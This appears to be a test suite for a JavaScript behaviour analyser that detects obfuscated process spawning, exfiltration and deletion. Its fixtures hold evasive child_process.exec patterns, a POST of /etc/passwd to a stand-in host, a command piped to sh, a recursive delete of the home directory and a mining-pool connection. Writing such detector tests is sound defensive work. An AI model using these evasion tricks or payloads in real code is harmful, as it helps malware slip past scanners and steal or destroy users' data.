import assert from 'node:assert/strict';
import { describe, it } from 'node:test';

import { behaviourOf, flowLines, lineOf } from '../../test/behave.ts';

const RUNS = 'call spawns child_process.exec(unmask-marker)';

/** Ways to call a function of Node that is one of several, or one of several that are handed over. */
const CHOICES: Readonly<Record<string, string>> = {
  'the second of a condition': `const own = x => x; const run = process.argv[2] ? own : cp.exec; exports.go = () => { run('unmask-marker'); };`,
  'the second of a condition where it is called': `exports.go = quiet => { (quiet ? console.log : cp.exec)('unmask-marker'); };`,
  'what else there is': `exports.go = run => { const own = run || cp.exec; own('unmask-marker'); };`,
  'what a function is exchanged for later': `let run = x => x; if (process.argv[2]) run = cp.exec; exports.go = () => { run('unmask-marker'); };`,
  'what a declared function is exchanged for': `function run(x) { return x; } if (process.argv[2]) run = cp.exec; exports.go = () => { run('unmask-marker'); };`,
  'what another of the ways through a function gives': `function pick(kind) { switch (kind) { case 1: return require('path').join; default: return cp.exec; } } exports.go = () => { pick(2)('unmask-marker'); };`,
  'a module beside one that is not known': `exports.go = () => { require(process.env.X || 'child_process').exec('unmask-marker'); };`,
  'a module that stands where nothing is known': `const name = (() => { return; })() || 'child_process'; exports.go = () => { require(name).exec('unmask-marker'); };`,
  'the last of many keys': `const names = [${Array.from({ length: 80 }, (_, at) => `'k${at}'`).join()}, 'exec']; exports.go = () => { for (const name of names) if (cp[name]) cp[name]('unmask-marker'); };`,
  'a member of several modules in one object': `const tools = Object.assign({}, require('fs'), cp); exports.go = () => { tools.exec('unmask-marker'); };`,
  'what describes a member': `exports.go = () => { Object.getOwnPropertyDescriptor(cp, 'exec').value('unmask-marker'); };`,
  'one of a list by a place that is not known': `exports.go = at => { [require('path').join, cp.exec][at]('unmask-marker'); };`,
  'what is put into a list': `const jobs = []; jobs.push({ run: cp.exec, line: 'unmask-marker' }); exports.go = () => { for (const { run, line } of jobs) run(line); };`,
  'what is taken out of a list': `const jobs = [[cp.exec, 'unmask-marker']]; exports.go = () => { const [run, line] = jobs.shift(); run(line); };`,
  'what a promise is told to call': `exports.go = () => { Promise.resolve('unmask-marker').then(cp.exec); };`,
  'what a timer is told to call': `exports.go = () => { setTimeout(cp.exec, 10, 'unmask-marker'); };`,
  'what is called for each of a list': `exports.go = () => { ['unmask-marker'].forEach(cp.exec); };`,
  'a method of the second of two objects': `const own = { exec: x => x }; exports.go = quiet => { const by = quiet ? own : cp; by.exec('unmask-marker'); };`,
  'what the second caller hands over': `
    const own = x => x; function attempt(run, ...args) { try { return run(...args); } catch (error) { console.error(error); } }
    exports.count = () => attempt(own, 1); exports.go = () => attempt(cp.exec, 'unmask-marker');`,
};

describe('a call of one of several', () => {
  for (const [choice, code] of Object.entries(CHOICES)) {
    it(`means ${choice} as well`, () => {
      const { effects } = behaviourOf({ 'index.js': `const cp = require('child_process'); ${code}` });
      assert.ok(effects.map(lineOf).includes(RUNS), effects.map(lineOf).join('\n'));
    });
  }

  it('of a module by a name that is not known starts a program', () => {
    const code = `const cp = require('child_process'); cp[Object.keys(cp).find(one => /^ex.*Sync$/.test(one))]('unmask-marker');`;
    assert.ok(behaviourOf({ 'index.js': code }).effects.some(({ kind, target }) => kind === 'spawns' && target === 'unmask-marker'));
  });

  it('of all of a module, one after the other, starts a program', () => {
    const code = `const cp = require('child_process'); for (const [name, run] of Object.entries(cp)) if (name === 'execSync') run('unmask-marker');`;
    assert.ok(behaviourOf({ 'index.js': code }).effects.some(({ kind, target }) => kind === 'spawns' && target === 'unmask-marker'));
  });

  it('gives what any of them gives', () => {
    const code = `const fs = require('fs'); const none = () => ''; const get = process.argv[2] ? none : fs.readFileSync;
      fetch('https://a.invalid', { method: 'POST', body: get('/etc/passwd') });`;
    assert.ok(flowLines({ 'index.js': code }).includes('fs.readFileSync → fetch as content'));
  });

  it('is not given what another name that is spelled alike stands for', () => {
    const code = `const cp = require('child_process'); const own = x => x; function attempt(run, command) { for (const command of ['own', 'words']) run(command); }
      exports.count = () => attempt(own, 1); exports.go = () => attempt(cp.exec, 'unmask-marker');`;
    const { effects } = behaviourOf({ 'index.js': code });
    assert.ok(!effects.map(lineOf).includes(RUNS), effects.map(lineOf).join('\n'));
  });

  it('is not given what the caller of another hands over', () => {
    const code = `const cp = require('child_process'); const own = x => x; const attempt = (run, ...args) => { try { return run(...args); } catch (error) { console.error(error); } };
      exports.count = () => attempt(own, 'unmask-marker'); exports.go = command => attempt(cp.exec, command);`;
    const { effects } = behaviourOf({ 'index.js': code });
    assert.ok(!effects.map(lineOf).includes(RUNS), effects.map(lineOf).join('\n'));
  });

  it('is told by its whole command, which may have a pipe in it', () => {
    const code = `const cp = require('child_process'); exports.go = url => { const line = \`unmask-marker \${url} | sh\`; cp.exec(line + ' &'); };
      exports.one = far => { const line = far ? 'unmask-marker a | sh' : 'unmask-marker b | sh'; cp.exec(line + ' &'); };`;
    const told = behaviourOf({ 'index.js': code }).effects.map(({ target }) => target);
    assert.deepEqual(told, ['unmask-marker * |\tsh &', 'unmask-marker a |\tsh & | unmask-marker b |\tsh &']);
  });

  it('does not hide by what code sets in the environment: what the host has there is meant as well', () => {
    const told = (code: string): string[] =>
      behaviourOf({ 'index.js': code })
        .effects.filter(({ kind }) => kind === 'deletes' || kind === 'connects')
        .map(lineOf);
    assert.deepEqual(told(`process.env.HOME = process.env.HOME || '/tmp'; require('fs').rmSync(process.env.HOME, { recursive: true });`), [
      'import deletes fs.rmSync(<home>)',
    ]);
    assert.deepEqual(told(`process.env.U = 'http://127.0.0.1'; fetch(process.env.U);`), ['import connects fetch(<env:U>)']);
    assert.deepEqual(told(`process.env.U = 'https://a.invalid'; fetch(process.env.U);`), [
      'import connects fetch(<env:U> | https://a.invalid)',
    ]);
  });

  it('tells of each variable apart where one of several is read', () => {
    const code = `const env = name => process.env[name]; fetch('https://' + env('A') + '.inert.invalid/x'); fetch(new URL('/y', 'https://' + env('B') + '.inert.invalid'));`;
    const told = behaviourOf({ 'index.js': code }).effects.filter(({ kind }) => kind === 'connects');
    assert.deepEqual(told.map(lineOf), [
      'import connects fetch(https://<env:A>.inert.invalid/x | https://<env:B>.inert.invalid/x)',
      'import connects fetch(https://<env:A>.inert.invalid/y | https://<env:B>.inert.invalid/y)',
    ]);
  });

  it('tells the parts of an address of any scheme', () => {
    const code = `const at = new URL('stratum+tcp://rounds.inert.invalid:3333'); require('net').connect(Number(at.port), at.hostname);`;
    assert.ok(behaviourOf({ 'index.js': code }).effects.map(lineOf).includes('import connects net.connect(rounds.inert.invalid:3333)'));
  });

  it('does not hide a setter that takes the place of a key of the same name', () => {
    const code = `const o = { run: '', set run(v) { require('child_process').exec(v); } }; o.run = 'unmask-marker';`;
    assert.ok(behaviourOf({ 'index.js': code }).effects.map(lineOf).includes('import spawns child_process.exec(unmask-marker)'));
  });

  it('means nothing of a name that is written with texts alone', () => {
    const code = `const cp = require('child_process'); let run = 'a'; if (process.argv[2]) run = 'b'; exports.go = () => run('unmask-marker') ?? cp;`;
    assert.deepEqual(
      behaviourOf({ 'index.js': code }).effects.filter(({ kind }) => kind === 'spawns'),
      [],
    );
  });
});
